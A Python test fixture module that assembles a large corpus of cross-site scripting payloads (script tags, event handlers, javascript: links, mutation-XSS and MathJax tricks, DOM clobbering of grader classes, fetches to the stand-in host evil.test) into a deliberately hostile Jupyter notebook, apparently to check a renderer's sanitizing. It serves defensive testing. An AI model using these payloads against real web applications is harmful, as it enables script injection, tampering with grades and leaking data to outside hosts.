# ruff: noqa: E501  (markup is judged by the eye: it stays unbroken)
"""Hostile markup, and notebooks made of it.

Each entry of the corpus sets ``window.pwned``, opens a dialog or fetches ``http://evil.test/`` if it runs.
"""

import base64
import struct
import zlib

import pytest
from nbformat import v4

RUN = "window.pwned=(window.pwned||0)+1"
FETCH = "http://evil.test/x"

HTML = {
    "script": f"<script>{RUN}</script>",
    "script in a script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "image error": f"<img src=x onerror='{RUN}'>",
    "image load": f"<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' onerror='{RUN}' onload='{RUN}'>",
    "svg load": f"<svg onload='{RUN}'><circle r=9></svg>",
    "svg script": f"<svg><script>{RUN}</script></svg>",
    "svg animate": f"<svg><a><animate attributeName=href values='javascript:{RUN}'/><text>x</text></a></svg>",
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'></svg>",
    "details toggle": f"<details open ontoggle='{RUN}'><summary>s</summary></details>",
    "autofocus": f"<input autofocus onfocus='{RUN}'>",
    "contenteditable": f"<b tabindex=1 autofocus contenteditable onfocus='{RUN}'>x</b>",
    "video": f"<video><source onerror='{RUN}'></video>",
    "marquee": f"<marquee onstart='{RUN}'>x</marquee>",
    "style animation": f"<style>@keyframes k{{}}b{{animation:k 1s}}</style><b onanimationstart='{RUN}'>x</b>",
    "style import": f"<style>@import '{FETCH}';</style>",
    "style url": f"<p style=\"background:url('{FETCH}')\">x</p>",
    "style escape": f'<p style="background-color:u\\72l({FETCH})">x</p>',
    "style overlay": "<div style='position:fixed;inset:0;z-index:9999;opacity:0'>overlay</div>",
    "link stylesheet": f"<link rel=stylesheet href='{FETCH}'>",
    "base": "<base href='http://evil.test/'>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url={FETCH}'>",
    "form": f"<form id=f action='{FETCH}'><button autofocus>b</button></form>",
    "iframe source": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "iframe address": f"<iframe src='javascript:parent.{RUN}'></iframe>",
    "object": f"<object data='data:text/html,<script>parent.{RUN}</script>'></object>",
    "embed": f"<embed src='{FETCH}'>",
    "remote image": f"<img src='{FETCH}' srcset='{FETCH} 2x'>",
    "lazy picture": f"<picture><source srcset='{FETCH}'><img src='{FETCH}'></picture>",
    "link": f"<a class=hot href='javascript:{RUN}'>link</a>",
    "link, entities": f"<a class=hot href='&#106;avascript&colon;{RUN}'>link</a>",
    "link, newline": f"<a class=hot href='java\nscript:{RUN}'>link</a>",
    "link, control": f"<a class=hot href='\x01javascript:{RUN}'>link</a>",
    "link, data": f"<a class=hot href='data:text/html,<script>{RUN}</script>'>link</a>",
    "link, svg": f"<svg><a xlink:href='javascript:{RUN}'><text y=20>link</text></a></svg>",
    "mathml link": f"<math><mtext href='javascript:{RUN}'>x</mtext></math>",
    "mxss noscript": f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\">",
    "mxss math style": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "mxss svg style": f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    "mxss form": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    "mxss template": f"<template><script>{RUN}</script></template><div><template shadowrootmode=open><script>{RUN}</script></template></div>",
    "mxss title": f'<svg><title><style><img title="</style><img src=x onerror={RUN}>"></title></svg>',
    "mxss comment": f"<!--><img src=x onerror={RUN}>--><!--!> --!><img src=x onerror={RUN}>",
    "mxss cdata": f"<svg><![CDATA[><img src=x onerror={RUN}>]]></svg>",
    "mxss textarea": f'<textarea><img title="</textarea><img src=x onerror={RUN}>"></textarea>',
    "mxss xmp": f'<xmp><p title="</xmp><img src=x onerror={RUN}>"></xmp><plaintext>',
    "quote break": f"<img alt='\"><img src=x onerror={RUN}>' title='\" onmouseover=\"{RUN}'>",
    "ends the box": f"</div></div></section></main></pre></td></table><img src=x onerror={RUN}>",
    "unclosed": f"<a href='x' title='<b><p><img src=x onerror={RUN}",
    "null bytes": f"<im\x00g src=x onerror={RUN}><scr\x00ipt>{RUN}</scr\x00ipt>",
    "formgrader's classes": "<button class='btn full-credit mark-graded'>b</button>"
    "<input id='grade-1' class='score tabbable' value=5><b id=grade-1 class='nbgrader_cell comment'>b</b>",
    "clobbering": "<img name=MathJax><form id=formgrader><input name=grades></form><a id=base_url>x</a>",
    "mathjax in html": f"<p>$\\href{{javascript:{RUN}}}{{link}}$ \\(\\cssId{{grade-1}}{{x}}\\)</p>",
    "mathjax config": f"<script type='text/x-mathjax-config'>{RUN}</script>",
    "mathjax script": f"<script type='math/tex'>\\href{{javascript:{RUN}}}{{x}}</script>",
    "mathjax class": f"<span class='tex2jax_process'>$\\href{{javascript:{RUN}}}{{x}}$</span>",
    "mermaid": "<pre class='mermaid'>graph LR; A-->B; click A call alert()</pre>",
    "data attributes": f"<a data-link='javascript:{RUN}' data-toggle=tooltip data-html=true title='<img src=x onerror={RUN}>'>t</a>",
}

MARKDOWN = {
    "link": f"[link](javascript:{RUN})",
    "link, entities": f"[link](&#x6A;avascript:{RUN})",
    "link, angle": f"[link](<javascript:{RUN}>)",
    "link, title": f"[link](http://a.test 'x\" onmouseover=\"{RUN}')",
    "reference": f"[link][r]\n\n[r]: javascript:{RUN}",
    "autolink": f"<javascript:{RUN}>",
    "image": f"![x]({FETCH})",
    "image quotes": f'![x" onerror="{RUN}](x)',
    "image svg": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "code fence": f'```html" onclick="{RUN}\n</code></pre><script>{RUN}</script>\n```',
    "mermaid": "```mermaid\ngraph LR; A-->B\n```",
    "blank line": f"<div>\n\n<script>{RUN}</script>\n\n</div>",
    "half a tag": f"<img src=x\n\nonerror={RUN} <b",
    "dollars": f"$$\n<script>{RUN}</script>\n$$ $<img src=x onerror={RUN}>$",
    "dollars that split": f"<b title='$$'> <img src=x onerror={RUN}> $$",
    "href": f"$\\href{{javascript:{RUN}}}{{link}}$",
    "doubled backslash": f"$\\\\href{{javascript:{RUN}}}{{link}} \\\\\\href{{javascript:{RUN}}}{{link}}$",
    "nested text": f"$\\text{{\\(\\href{{javascript:{RUN}}}{{link}}\\)}}$",
    "environment": f"\\begin{{align}}\\href{{javascript:{RUN}}}{{link}}\\end{{align}}",
    "definition": f"$\\def\\frac#1{{\\href{{javascript:{RUN}}}{{#1}}}}$ $\\let\\x\\href$ $\\newcommand{{\\y}}{{\\href}}$",
    "styles": "$\\style{position:fixed;inset:0}{x}$ $\\class{full-credit}{y}$ $\\cssId{grade-1}{z}$",
    "extensions": "$\\require{html}$ $\\unicode{x3c}$ $\\mmlToken{mi}[href='javascript:alert(1)']{x}$ $\\bbox[url(x)]{y}$",
    "round brackets": f"\\\\( \\href{{javascript:{RUN}}}{{link}} \\\\) \\\\[ \\href{{javascript:{RUN}}}{{link}} \\\\]",
    "own formula span": f"<span class='tex2jax_process'>$\\href{{javascript:{RUN}}}{{link}}$<img src=x onerror={RUN}></span>",
    "noncharacters": "\ufdd00\ufdd1 \ufdd0999\ufdd1",
}


def png(width: int = 1, height: int = 1, tail: bytes = b"") -> str:
    """A PNG in base64; its header says ``width`` x ``height``, and ``tail`` stands in a text of its own."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    raw = (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0\xff"))
        + chunk(b"tEXt", tail)
        + chunk(b"IEND", b"")
    )
    return base64.b64encode(raw).decode()


def hostile_notebook():
    """A notebook whose author tried everything: outputs, Markdown, attachments, metadata, names."""
    svg = f"<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>"
    outputs = [
        v4.new_output("display_data", data={"text/html": html, "text/plain": name}) for name, html in HTML.items()
    ]
    bundles = [
        {"application/javascript": RUN, "text/plain": "javascript"},
        {"image/svg+xml": svg},
        {"text/markdown": f"<img src=x onerror='{RUN}'>"},
        {"text/latex": f"$\\href{{javascript:{RUN}}}{{x}}$<img src=x onerror='{RUN}'>"},
        {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>" + RUN}},
        {"image/png": f'x" onerror="{RUN}'},
        {"image/png": base64.b64encode(svg.encode()).decode()},
        {"image/jpeg": f"x' onerror='{RUN}"},
        {"text/plain": f"</pre><script>{RUN}</script>"},
        {"application/vnd.custom+html": f"<script>{RUN}</script>"},
    ]
    bundles += [{"text/markdown": source} for source in (*MARKDOWN.values(), *HTML.values())]
    outputs += [v4.new_output("display_data", data=bundle) for bundle in bundles]
    outputs += [
        v4.new_output("stream", text=f"\x1b[31m</pre><script>{RUN}</script>\x1b]8;;javascript:{RUN}\x07x\x1b]8;;\x07"),
        v4.new_output(
            "error", ename=f"<script>{RUN}</script>", evalue="x", traceback=[f"</pre><script>{RUN}</script>"]
        ),
        v4.new_output(
            "execute_result",
            data={"text/html": f"<script>{RUN}</script>"},
            metadata={"text/html": {"isolated": True}},
        ),
        v4.new_output(
            "display_data",
            data={"image/png": png()},
            metadata={"image/png": {"alt": f'" onload="{RUN}', "width": f"1 onload={RUN}"}},
        ),
    ]
    # In groups, so that the bound on the outputs of a cell isn't what stops them.
    cells = [
        v4.new_code_cell(f"# </pre><script>{RUN}</script>\nprint(1)", outputs=outputs[start : start + 20])
        for start in range(0, len(outputs), 20)
    ]
    cells += [v4.new_markdown_cell(source) for source in MARKDOWN.values()]
    cells += [v4.new_markdown_cell(source) for source in HTML.values()]
    cells += [v4.new_raw_cell(source) for source in HTML.values()]
    attached = v4.new_markdown_cell("![a](attachment:a.png) ![b](attachment:b.png) ![c](attachment:missing.png)")
    attached.attachments = {
        "a.png": {f'image/png" onerror="{RUN}': "AA=="},
        "b.png": {"image/svg+xml": base64.b64encode(svg.encode()).decode()},
        f'c" onerror="{RUN}': {"image/png": png()},
    }
    cells.append(attached)
    odd = v4.new_code_cell("1")
    odd.metadata = {
        "tags": [f'x" onclick="{RUN}'],
        "magics_language": "html",
        "nbgrader": {
            "grade": True,
            "grade_id": f'x" autofocus onfocus="{RUN}',
            "points": 1,
            "solution": False,
        },
    }
    odd.id = "x"
    cells.append(odd)
    notebook = v4.new_notebook()
    notebook.cells = cells  # not by new_notebook: that validates
    notebook.metadata = {
        "title": f"</title><script>{RUN}</script>",
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"x": "</script><script>" + RUN}}},
        "kernelspec": {"name": f'"><script>{RUN}</script>', "display_name": "Python 3", "language": "python"},
        "language_info": {"name": f'"><img src=x onerror={RUN}>', "pygments_lexer": f'" onclick="{RUN}'},
    }
    return notebook


@pytest.fixture(scope="session")
def hostile():
    """Builds the hostile notebook afresh at each call."""
    return hostile_notebook


@pytest.fixture(scope="session")
def make_png():
    """See :func:`png`."""
    return png
